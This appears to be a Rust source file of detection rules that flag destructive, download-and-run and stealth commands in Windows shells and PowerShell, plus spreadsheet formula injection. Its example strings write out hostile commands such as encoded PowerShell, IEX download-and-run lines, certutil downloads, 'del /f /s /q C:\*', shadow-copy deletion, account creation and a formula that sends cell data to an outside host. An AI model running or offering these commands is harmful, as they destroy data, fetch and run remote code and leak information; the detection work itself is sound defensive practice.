//! Commands of Windows and PowerShell that destroy, download and run, or hide.

use super::rule::Weight::{Firm, Hostile, Plain};
use super::rule::{Rule, rule};

pub(super) const RULES: &[Rule] = &[
    rule("code.shell.powershell", "powershell -enc", 90, Firm)
        .at(
            &["powershell", "pwsh"],
            r#"^(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,140}?\s[-/](?:e|ec|en|enc|enco\w*)\s+["']?[a-z0-9+/=]{6,}"#,
        )
        .examples(&["powershell -enc SQBFAFgA", "powershell.exe -nop -w hidden -e SQBFAFgAIAAo"], &["powershell -File x.ps1", "powershell is a shell"]),
    rule("code.shell.powershell", "powershell", 80, Hostile)
        .at(
            &["powershell", "pwsh"],
            r"^(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,140}?(?:-w(?:indowstyle)?\s+h(?:id(?:den)?)?\b|downloadstring|downloadfile|\biex\b|invoke-expression|-nop\b[^\n]{0,60}?-(?:c|command|ep?)\b)",
        )
        .examples(&["powershell -w hidden -c calc"], &["powershell -ExecutionPolicy Bypass -File build.ps1"]),
    rule("code.shell.powershell", "invoke-expression", 88, Firm)
        .at(
            &["iex ", "iex(", "invoke-expression"],
            r"^(?:iex|invoke-expression)\b[^\n]{0,120}?(?:downloadstring|webclient|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|frombase64)",
        )
        .examples(&["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"], &["iex -S mix"]),
    rule("code.shell.powershell", "invoke-expression", 86, Firm)
        .at(
            &["iwr ", "irm ", "invoke-webrequest", "invoke-restmethod", "downloadstring(", "frombase64string("],
            r"^[a-z0-9-]+[^\n]{0,200}?\|\s*(?:iex|invoke-expression)\b",
        )
        .examples(&["iwr http://x.example/a.ps1 | iex"], &["iwr http://x.example -OutFile a.zip"]),
    rule("code.shell.powershell", "download and run", 78, Hostile)
        .at(&["downloadfile("], r"^downloadfile\([^\n]{0,200}?(?:start-process|invoke-item|\.exe|\.ps1|\.bat)")
        .examples(&["(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','a.exe')"], &["client.DownloadFile(url)"]),
    rule("code.shell.windows", "del /s", 88, Firm)
        .at(
            &["del /", "erase /", "rd /", "rmdir /", "format c", "remove-item ", "cmd /c", "cmd.exe /c"],
            r"^(?:(?:del|erase)\s+(?:/\w+\s+){1,4}\S{0,4}(?:[a-z]:\\|%systemroot%|%userprofile%|\*\.\*)|(?:rd|rmdir)\s+(?:/\w+\s+){1,3}\x22?(?:[a-z]:\\?(?:[\s\x22&|]|windows|users|$)|%systemroot%|%userprofile%)|format\s+c:\s*(?:/|$)|remove-item\s[^\n]{0,80}?(?:-recurse[^\n]{0,40}?-force|-force[^\n]{0,40}?-recurse)?[^\n]{0,20}?(?:[a-z]:\\(?:\*|windows|users|\s|$)|\$env:(?:systemroot|userprofile|windir)|\s[/~](?:\s|$)))",
        )
        .examples(&["del /f /s /q C:\\*", "rd /s /q C:\\", "format c: /q", "Remove-Item -Recurse -Force C:\\Windows"], &["del /q build\\*.obj", "rd /s /q build", "Remove-Item -Recurse -Force build"]),
    rule("code.shell.windows", "living off the land", 82, Hostile)
        .at(
            &["certutil", "mshta", "regsvr32", "bitsadmin", "rundll32", "wmic ", "vssadmin", "bcdedit", "schtasks", "net user ", "net localgroup", "set-mppreference", "reg add "],
            r"^(?:certutil(?:\.exe)?\s[^\n]{0,60}?(?:-urlcache|-decode)\b|mshta(?:\.exe)?\s+[\x22']?(?:https?:|javascript:|vbscript:)|regsvr32(?:\.exe)?\s[^\n]{0,60}?/i:https?|bitsadmin(?:\.exe)?\s+/transfer|rundll32(?:\.exe)?\s+(?:javascript:|\S{0,60}\\\\)|wmic\s[^\n]{0,40}?process\s+call\s+create|vssadmin(?:\.exe)?\s+delete\s+shadows|bcdedit(?:\.exe)?\s+/set\s+\S+\s+(?:recoveryenabled|bootstatuspolicy)|schtasks(?:\.exe)?\s+/create\s[^\n]{0,160}?/tr\s|net\s+user\s+\S{1,30}\s+\S{1,40}\s+/add|net\s+localgroup\s+administrators\s+\S{1,40}\s+/add|set-mppreference\s+-disable|reg\s+add\s+\S{0,20}hk\S{1,120}\\run\b)",
        )
        .examples(&["certutil -urlcache -f http://x.example/a a.exe", "net user x P4ss /add", "vssadmin delete shadows /all"], &["certutil -hashfile a.iso", "net user lists accounts", "schtasks /query"]),
    rule("code.shell.windows", "cmd /c", 60, Plain)
        .at(&["cmd /c", "cmd.exe /c"], r"^cmd(?:\.exe)?\s+/c\s+[\x22']?(?:whoami|dir|del|net|type|calc|powershell|ipconfig|start|echo\s[^\n]{0,60}>)")
        .examples(&["cmd.exe /c whoami"], &["cmd /c npm run build"]),
    rule("code.spreadsheet.formula", "cmd|", 84, Hostile)
        .at(&["cmd|", "powershell|", "msexcel|"], r"^\w+\|[\s'\x22]*/\w")
        .examples(&["=cmd|' /C calc'!A0"], &["cmd|ctrl"]),
    rule("code.spreadsheet.formula", "=webservice(", 66, Hostile)
        .at(&["=webservice(", "=importxml(", "=importdata(", "=importfeed(", "=importhtml("], r#"^=\w+\(\s*(?:concat\w*\(\s*)?["']?https?://[^\n]{0,160}?(?:&|concat)"#)
        .examples(&["=WEBSERVICE(\"http://x.example/?d=\"&A1)"], &["=IMPORTXML(\"https://x.example\", \"//h1\")"]),
];
